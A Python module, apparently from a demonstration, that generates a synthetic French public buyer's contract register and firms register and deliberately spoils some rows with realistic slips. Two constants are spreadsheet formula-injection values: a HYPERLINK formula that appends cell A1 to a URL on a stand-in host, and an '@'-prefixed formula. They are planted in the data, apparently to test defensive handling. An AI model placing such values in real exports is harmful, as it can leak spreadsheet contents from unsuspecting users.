"""The buyer's own register of contracts, and an extract of the register of firms.

The register is what the purchasing department keeps by hand: it knows launch days, consultations
and families that the essential data lack, and it has slips of its own. Its streams of random
numbers are its own: adding them changes no other file.
"""

from __future__ import annotations

import datetime as dt
from typing import Any

import numpy as np

from demo.contracts import Contract
from demo.identity import BUYER_SIRET, LA_POSTE, UGAP, Supplier
from demo.payments import concession_number
from demo.profiles import Concession

__all__ = ["SOLE_TRADER", "firm_rows", "register_rows", "sole_trader"]

HEADER = [
    "SIRET de l'acheteur",
    "Marché",
    "Rôle de l'acheteur",
    "Type de contrat",
    "Objet",
    "Consultation",
    "Lot",
    "Accord-cadre",
    "CPV",
    "Famille d'achat",
    "Direction",
    "Date de lancement",
    "Date de notification",
    "Début d'exécution",
    "Durée (mois)",
    "Montant notifié HT (€)",
    "Groupement",
    "SIRET du titulaire",
    "Titulaire",
    "SIRET des cotraitants",
    "Clause sociale",
    "Marché réservé",
    "Parcours d'insertion long et qualifiant",
]
FIRM_HEADER = [
    "SIRET",
    "SIREN",
    "Dénomination",
    "Catégorie d'entreprise",
    "Année de la catégorie",
    "Catégorie juridique",
    "Code postal",
    "Code commune",
    "Région",
    "ESS",
    "ESUS",
    "Structure",
]

SOLE_TRADER = "1000"
"""Legal category of a person who trades in their own name."""

LEGAL_FORMS = {"SAS": "5710", "SARL": "5499", "SA": "5599", "SCOP": "5458", "EURL": "5498"}
HOSTILE_NAME = '=HYPERLINK("https://exemple.invalid/?q="&A1;"Cliquez ici")'
HOSTILE_OBJECT = "@SOMME(1+1)*entretien des espaces de la Verrerie"

PLACES: tuple[tuple[str, str, str, float], ...] = (
    ("59350", "59000", "32", 0.34),
    ("59183", "59140", "32", 0.08),
    ("62041", "62000", "32", 0.09),
    ("80021", "80000", "32", 0.04),
    ("60057", "60000", "32", 0.03),
    ("75056", "75011", "11", 0.17),
    ("69123", "69003", "84", 0.06),
    ("44109", "44000", "52", 0.04),
    ("67482", "67000", "44", 0.05),
    ("33063", "33000", "75", 0.04),
    ("31555", "31000", "76", 0.03),
    ("97411", "97400", "04", 0.03),
)
"""Commune, a postcode of it, region, and the chance that an invented firm lies there."""

FOR_OTHERS = (
    ("Fourniture de papier pour les communes membres", "30197630-1", "13.02"),
    ("Électricité des communes membres", "09310000-5", "09.01"),
    ("Vérifications réglementaires des communes membres", "71630000-3", "18.03"),
    ("Signalisation routière des communes membres", "34992200-9", "04.06"),
    ("Véhicules légers des communes membres", "34110000-1", "08.01"),
    ("Denrées des restaurants scolaires des communes", "15000000-8", "16.05"),
)  # fmt: skip
"""Contracts the purchasing body awarded for the communes, which pay for them: object, CPV and
family. They are in no essential data file and no payment of the demonstration."""


def register_rows(
    seed: int,
    contracts: list[Contract],
    concessions: tuple[Concession, ...],
    operators: list[Supplier],
    suppliers: list[Supplier],
) -> list[list[Any]]:
    """Return the rows of the buyer's own register, header first.

    Parameters
    ----------
    seed : int
        Seed of the demonstration.
    contracts : list of Contract
        The contracts awarded, with their amounts.
    concessions, operators : sequence of Concession, list of Supplier
        The concessions and who operates each.
    suppliers : list of Supplier
        All the suppliers, among which those of the contracts for others.
    """
    rng = np.random.default_rng([seed, 61])
    rows = [_contract_row(rng, each) for each in contracts]
    _damage(rng, rows)
    rows += [_concession_row(rng, rank, each, operators) for rank, each in enumerate(concessions)]
    rows += [_row_for_others(rng, rank, suppliers) for rank in range(len(FOR_OTHERS))]
    return [HEADER, *rows]


def _contract_row(rng: np.random.Generator, contract: Contract) -> list[Any]:
    frame, operation = contract.extra.get("frame"), contract.extra.get("operation")
    root = contract.number.partition("L")[0] if operation else contract.number
    # A subsequent contract is called within its framework: no consultation of its own.
    consultation = "" if frame else f"C{root}"
    launched: dt.date | None = contract.start - dt.timedelta(days=60 + _spread(root, 150))
    if frame or rng.random() < 0.14:
        launched = None
    if not operation and rng.random() < 0.1:
        consultation = ""
    social = contract.extra["social"]
    reserved = "" if social is None else _yes("Marché réservé" in social)  # type: ignore[operator]
    draws = rng.random(4)
    if draws[0] < 0.2:
        reserved = ""
    long_path = ""
    if isinstance(social, list) and draws[1] < 0.7:
        inserted = bool({"Clause sociale", "Marché réservé"} & set(social))
        long_path = _yes(inserted and draws[2] < 0.25)
    role = "propre"
    if contract.segment.kind == "F" and draws[3] < 0.05:
        role = "coordonnateur"
    elif draws[3] > 0.985:
        role = ""
    return [
        BUYER_SIRET,
        contract.number,
        role,
        _kind(contract),
        contract.title,
        consultation,
        contract.lot,
        contract.parent,
        contract.cpv,
        contract.segment.family if rng.random() < 0.93 else "",
        contract.segment.directorate,
        _day(launched),
        _day(contract.start),
        _day(contract.start),
        contract.months,
        _euros(contract.amount_eur),
        "conjoint" if len(contract.suppliers) > 1 else "pas de groupement",
        contract.suppliers[0].siret,
        contract.suppliers[0].name,
        ", ".join(each.siret for each in contract.suppliers[1:]),
        # Most social clauses are followed in the table of tags; the register repeats a few.
        _said(social) if rng.random() < 0.15 else "",
        reserved,
        long_path,
    ]


def _kind(contract: Contract) -> str:
    if contract.framework:
        return "accord-cadre"
    return "marché subséquent" if contract.parent else "marché"


def _damage(rng: np.random.Generator, rows: list[list[Any]]) -> None:
    """Spoil some rows as people do; what is spoiled differs from what other sources state."""
    column = {name: rank for rank, name in enumerate(HEADER)}
    share = len(rows) / 1_482
    order = [int(each) for each in rng.permutation(len(rows))]

    def take(number: int) -> list[list[Any]]:
        return [rows[order.pop()] for _ in range(max(1, round(number * share)))]

    for row in take(30):
        row[column["Montant notifié HT (€)"]] = ""
    for row in take(10):
        amount = row[column["Montant notifié HT (€)"]]
        row[column["Montant notifié HT (€)"]] = f"{amount.partition(',')[0]}0,00"
    for row in take(8):
        day = dt.datetime.strptime(row[column["Date de notification"]], "%d/%m/%Y").date()
        row[column["Date de notification"]] = _day(day + dt.timedelta(days=31))
    for row in take(5):
        clause = column["Clause sociale"]
        row[clause] = "non" if row[clause] == "oui" else "oui"
    for row in take(4):
        row[column["Clause sociale"]] = "à voir"
    for row in take(2):
        row[column["Date de lancement"]] = "31/02/2023"
    for row in take(12):
        row[column["Marché"]] = f"{row[column['Marché']][:4]} {row[column['Marché']][4:]}"
    take(1)[0][column["Titulaire"]] = HOSTILE_NAME
    take(1)[0][column["Objet"]] = HOSTILE_OBJECT


def _concession_row(
    rng: np.random.Generator, rank: int, concession: Concession, operators: list[Supplier]
) -> list[Any]:
    start = dt.date.fromisoformat(concession.start)
    launched = start - dt.timedelta(days=int(rng.integers(240, 420)))
    return [
        BUYER_SIRET,
        concession_number(rank, concession),
        "propre",
        "concession",
        concession.label,
        f"C{concession_number(rank, concession)}",
        "",
        "",
        "",
        concession.family,
        concession.directorate,
        _day(launched) if rng.random() < 0.6 else "",
        _day(start),
        _day(start + dt.timedelta(days=31)),
        concession.months,
        _euros(round(concession.turnover_eur * concession.months / 12)),
        "pas de groupement",
        operators[rank].siret,
        operators[rank].name,
        "",
        "",
        "non",
        "",
    ]


def _row_for_others(rng: np.random.Generator, rank: int, suppliers: list[Supplier]) -> list[Any]:
    label, cpv, family = FOR_OTHERS[rank]
    start = dt.date(2022 + rank % 3, 1 + 2 * rank, 1)
    able = [each for each in suppliers if each.trade == ("S" if cpv.startswith("7") else "F")]
    supplier = able[int(rng.integers(len(able)))]
    number = f"{start.year}CA{rank + 1:03d}"
    return [
        BUYER_SIRET,
        number,
        "centrale d'achat",
        "accord-cadre",
        label,
        f"C{number}",
        "",
        "",
        cpv,
        family,
        "Direction des achats",
        _day(start - dt.timedelta(days=120)),
        _day(start),
        _day(start),
        48,
        _euros(float(round(rng.uniform(2e5, 4e6), -3))),
        "pas de groupement",
        supplier.siret,
        supplier.name,
        "",
        ("oui", "non", "")[rank % 3],
        "non",
        "",
    ]


def sole_trader(contracts: list[Contract]) -> Supplier:
    """Return the one supplier of a family, made a sole trader: the cell that names a person.

    Among the families that a single firm supplies, the one with the fewest contracts; where there
    is none, the supplier of the family with the fewest suppliers.
    """
    held: dict[str, set[Supplier]] = {}
    number: dict[str, int] = {}
    for each in contracts:
        held.setdefault(each.segment.family, set()).update(each.suppliers)
        number[each.segment.family] = number.get(each.segment.family, 0) + 1
    family = min(held, key=lambda each: (len(held[each]), number[each], each))
    return min(held[family], key=lambda each: each.siret)


def firm_rows(
    seed: int, contracts: list[Contract], suppliers: list[Supplier], operators: list[Supplier]
) -> list[list[Any]]:
    """Return the extract of the register of firms, header first; some firms are not in it."""
    rng = np.random.default_rng([seed, 62])
    lone = sole_trader(contracts)
    chances = np.array([each[3] for each in PLACES])
    rows: list[list[Any]] = []
    for rank, each in enumerate(suppliers):
        draws = rng.random(7)
        commune, postcode, region, _ = PLACES[int(rng.choice(len(PLACES), p=chances))]
        if draws[0] < 0.06 and each is not lone:
            continue
        # The first of the list are the large groups: they bid everywhere.
        large, middle = (0.35, 0.4) if rank < 40 else (0.02, 0.16)
        size = "GE" if draws[1] < large else "ETI" if draws[1] < large + middle else "PME"
        legal = LEGAL_FORMS[each.name.rpartition(" ")[2]]
        if each is lone or (size == "PME" and draws[2] < 0.03):
            size, legal = "PME", SOLE_TRADER
        esus = legal != SOLE_TRADER and draws[4] < 0.03
        structure = "aucune"
        if draws[5] < 0.03:
            structure = ("EA", "ESAT", "SIAE")[rank % 3]
        social = esus or structure != "aucune" or each.name.endswith("SCOP") or draws[4] > 0.97
        rows.append(
            [
                each.siret,
                each.siret[:9],
                each.name,
                "" if draws[3] < 0.04 else size,
                2023,
                legal,
                postcode if draws[6] > 0.02 else "",
                commune if draws[6] > 0.05 else "",
                # Mostly left to be derived from the commune.
                region if draws[6] > 0.8 else "",
                _yes(social),
                _yes(esus) if draws[6] > 0.1 else "",
                structure,
            ]
        )
    for rank, each in enumerate(operators):
        name = each.name
        commune, postcode, _, _ = PLACES[rank % 6]
        rows.append(
            [each.siret, each.siret[:9], name, "GE" if rank % 3 else "ETI", 2023, "5710", postcode,
             commune, "", "non", "non", "aucune"]
        )  # fmt: skip
    rows.append(
        [
            UGAP.siret,
            UGAP.siret[:9],
            UGAP.name,
            "",
            "",
            "4110",
            "",
            "",
            "11",
            "non",
            "non",
            "aucune",
        ]
    )
    rows.append(
        [LA_POSTE.siret, LA_POSTE.siret[:9], LA_POSTE.name, "GE", 2023, "5599", "", "", "11",
         "non", "non", "aucune"]
    )  # fmt: skip
    return [FIRM_HEADER, *rows]


def _spread(root: str, width: int) -> int:
    """Return a number of days that the lots of one consultation share."""
    return int(np.random.default_rng([63, *root.encode()]).integers(width))


def _said(social: object) -> str:
    return _yes("Clause sociale" in social) if isinstance(social, list) else ""


def _yes(stated: bool) -> str:
    return "oui" if stated else "non"


def _day(day: dt.date | None) -> str:
    return day.strftime("%d/%m/%Y") if day else ""


def _euros(amount_eur: float) -> str:
    return f"{amount_eur:.2f}".replace(".", ",")
